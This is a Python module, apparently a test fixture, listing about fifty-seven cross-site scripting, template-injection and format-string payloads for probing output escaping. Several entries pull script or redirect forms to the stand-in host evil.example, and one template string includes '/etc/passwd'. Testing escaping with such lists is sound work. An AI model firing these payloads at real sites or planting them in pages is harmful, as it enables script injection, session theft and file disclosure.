"""Fifty texts that are more than text where a page forgets to say otherwise."""

_SCRIPT = "<script>alert(1)</script>"

PAYLOADS = (
    _SCRIPT, f"\">{_SCRIPT}", f"'>{_SCRIPT}", f"</title>{_SCRIPT}", f"</textarea>{_SCRIPT}", f"</option></select>{_SCRIPT}",
    f"</script>{_SCRIPT}", f"--> {_SCRIPT}", f"<!--{_SCRIPT}", f"</dd></dl>{_SCRIPT}", f"</label>{_SCRIPT}", f"</a>{_SCRIPT}",
    "<scr<script>ipt>alert(1)</script>", "<SCRIPT SRC=//evil.example></SCRIPT>", "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src='x' onerror='alert(1)'>", "<img/src/onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)//", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>Pay", "<a href=javascript:alert(1)>x</a>", "<object data=//evil.example>",
    "<embed src=//evil.example>", "<style>*{display:none}</style>", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)\" x=\"", "` onmouseover=alert(1)", "x onclick=alert(1)", "javascript:alert(1)",
    "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example/x", "vbscript:msgbox(1)",
    "{{ 7*7 }}", "{% include '/etc/passwd' %}", "{business}{sums.__class__.__mro__}", "%s%n%(x)s", "&lt;script&gt;alert(1)",
    "&#60;script&#62;", "\\u003cscript\\u003e", "\u202eevil\u202c<b>", "<b>bold</b>", "]]><x>", "<?xml version='1.0'?><x/>",
)  # fmt: skip
